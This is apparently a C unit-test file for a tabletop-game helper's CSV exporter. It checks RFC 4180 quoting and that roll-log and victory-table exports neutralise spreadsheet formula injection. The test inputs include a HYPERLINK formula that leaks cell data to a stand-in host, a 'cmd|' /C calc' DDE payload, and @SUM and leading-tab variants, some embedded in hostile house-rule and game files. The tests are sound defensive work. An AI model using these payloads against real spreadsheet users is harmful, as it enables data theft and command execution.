/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The one CSV writer (adj-csv.c) and the exports that use it: RFC 4180
 * quoting, and no cell a spreadsheet would run as a formula, whoever wrote
 * the text (a shared game file, a house-rule table). */
#include "config.h"

#include <string.h>

#include "adj-csv.h"
#include "adj-roll-text.h"
#include "adj-test-utils.h"
#include "adj-victory-record.h"
#include "adj-victory-text.h"
#include "adj-wif-track.h"
#include "adj-xml-private.h"

#define HOSTILE "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Axis\")"
/* as the CSV must hold it: quoted, a single quote first, quotes doubled */
#define HOSTILE_CSV "\"'=HYPERLINK(\"\"http://example.org/?leak=\"\"&A1,\"\"Axis\"\")\""

static char *
field (const char *text)
{
  GString *s = g_string_new (NULL);

  adj_csv_append_field (s, text);
  return g_string_free (s, FALSE);
}

static void
assert_field (const char *text,
              const char *expected)
{
  g_autofree char *got = field (text);

  g_assert_cmpstr (got, ==, expected);
}

static void
test_fields (void)
{
  g_autoptr(AdjCsv) csv = adj_csv_new ();
  g_autofree char *text = NULL;

  assert_field ("Athens", "Athens");
  assert_field ("", "");
  assert_field (NULL, "");
  assert_field ("a,b", "\"a,b\"");
  assert_field ("say \"hi\"", "\"say \"\"hi\"\"\"");
  assert_field ("two\nlines", "\"two\nlines\"");
  /* what starts a formula (OWASP): a single quote first, and quoted */
  assert_field (HOSTILE, HOSTILE_CSV);
  assert_field ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"");
  assert_field ("-2+3", "\"'-2+3\"");
  assert_field ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
  assert_field ("\t=1", "\"'\t=1\"");
  assert_field ("\r=1", "\"'\r=1\"");
  /* only at the start */
  assert_field ("a=b", "a=b");

  /* rows: numbers written by the program stay numbers, even negative */
  adj_csv_add_text (csv, "Modifier");
  adj_csv_add_text (csv, NULL);
  adj_csv_add_int (csv, -2);
  adj_csv_end_row (csv);
  adj_csv_add_int (csv, 7);
  adj_csv_end_row (csv);
  text = adj_csv_free_to_string (g_steal_pointer (&csv));
  g_assert_cmpstr (text, ==, "Modifier,,-2\r\n7\r\n");
}

/* The line of @csv (after the header) that holds @needle. */
static gboolean
has_line_with (const char *csv,
               const char *needle)
{
  g_auto(GStrv) lines = g_strsplit (csv, "\r\n", -1);

  for (guint i = 1; lines[i]; i++)
    if (strstr (lines[i], needle))
      return TRUE;
  return FALSE;
}

static AdjRulebook *
house_rules (const char *name,
             const char *table,
             const char *pattern,
             const char *replacement)
{
  g_autofree char *dir = g_build_filename (g_get_user_data_dir (), name, NULL);
  g_autofree char *text = adj_test_builtin_table_text (table);
  g_autoptr(GRegex) re = g_regex_new (pattern, 0, 0, NULL);
  g_autofree char *hostile = g_regex_replace_literal (re, text, -1, 0, replacement, 0, NULL);
  g_autofree char *path = g_build_filename (dir, table, NULL);
  AdjRulebook *rb;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_assert_true (strcmp (hostile, text) != 0);
  g_assert_true (g_file_set_contents (path, hostile, -1, NULL));
  rb = adj_test_rulebook (dir);
  g_assert_cmpuint (adj_rulebook_get_problems (rb)->len, ==, 0);
  return rb;
}

/* A shared game file whose roll says who="=HYPERLINK(...)", and a house
 * rule that names a side so: in the roll log's CSV both are text. */
static void
test_hostile_roll_log (void)
{
  g_autoptr(AdjRulebook) rb = house_rules ("hostile-side", "wif.xml",
                                           "label=\"Axis\"><c>Axis</c>",
                                           "label=\"" "=HYPERLINK(&quot;http://example.org/?leak=&quot;&amp;A1,&quot;Axis&quot;)"
                                           "\"><c>=HYPERLINK(\"http://example.org/?leak=\"&amp;A1,\"Axis\")</c>");
  g_autofree char *state = g_build_filename (g_get_user_data_dir (), "hostile.adjutant", NULL);
  g_autoptr(AdjGame) game = adj_game_new (rb, state);
  g_autoptr(AdjModel) wif = adj_wif_track_new_model (rb, adj_game_get_dice (game));
  const char *file =
    "<adjutant version=\"1\"><roll-log>"
    "<roll time=\"2026-11-22T20:00:00Z\" purpose=\"@SUM(A1)\" who=\"=HYPERLINK(&quot;http://example.org/?leak=&quot;&amp;A1,&quot;Axis&quot;)\""
    " dice=\"2d6\" faces=\"3 4\" modifier=\"-1\" result=\"6\" physical=\"no\"/>"
    "</roll-log></adjutant>";
  g_autoptr(GError) error = NULL;
  g_autoptr(AdjRoll) roll = NULL;
  g_autofree char *plain = NULL;
  g_autofree char *worded = NULL;
  AdjDiceSpec spec;

  adj_game_add_model (game, wif);
  g_assert_true (adj_game_load_data (game, file, strlen (file), "hostile.adjutant", &error));
  g_assert_no_error (error);
  adj_dice_spec_parse ("1d10", &spec, NULL);
  roll = adj_dice_roll_about (adj_game_get_dice (game), &spec, "wif.turn-end",
                              (const char * const[]) { "1", "2", "axis", NULL }, 0, NULL, 0, &error);
  g_assert_no_error (error);

  plain = adj_roll_log_to_csv (adj_game_get_roll_log (game));
  worded = adj_roll_text_dup_csv (game);
  g_assert_null (strstr (plain, ",=HYPERLINK"));
  g_assert_null (strstr (worded, ",=HYPERLINK"));
  g_assert_null (strstr (worded, ",@SUM"));
  /* the file's roll, in both CSVs */
  g_assert_true (has_line_with (plain, ",\"'@SUM(A1)\"," HOSTILE_CSV ",2d6,3 4,-1,6,"));
  g_assert_true (has_line_with (worded, ",2d6,3 4,-1,6,Adjutant,,"));
  g_assert_true (has_line_with (worded, ",\"'@SUM(A1)\"," HOSTILE_CSV ",2d6,3 4,-1,6,"));
  /* the house rule's side, who rolled for the turn end */
  g_assert_true (has_line_with (worded, ",\"Turn end, turn 1 impulse 2\"," HOSTILE_CSV ",1d10,"));
  /* the header is worded for people, and every line has its ten fields */
  g_assert_true (g_str_has_prefix (worded, "Time,For,Who,Dice,Faces,Modifier,Result,Rolled by,Notes,Status\r\n"));
}

/* A house-rule victory table that names a target "=HYPERLINK(...)": in the
 * victory CSV it is text. */
static void
test_hostile_victory (void)
{
  g_autoptr(AdjRulebook) rb = house_rules ("hostile-target", "wif-h.xml",
                                           "label=\"Athens\"",
                                           "label=\"=HYPERLINK(&quot;http://example.org/?leak=&quot;&amp;A1,&quot;Axis&quot;)\"");
  g_autoptr(AdjVictoryRecord) record = adj_victory_record_new (rb);
  g_autofree char *csv = adj_victory_text_dup_csv (record);
  g_auto(GStrv) lines = g_strsplit (csv, "\r\n", -1);

  g_assert_null (strstr (csv, ",=HYPERLINK"));
  g_assert_nonnull (strstr (lines[0], "," HOSTILE_CSV ","));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
  g_test_add_func ("/csv/fields", test_fields);
  g_test_add_func ("/csv/hostile-roll-log", test_hostile_roll_log);
  g_test_add_func ("/csv/hostile-victory", test_hostile_victory);
  return g_test_run ();
}
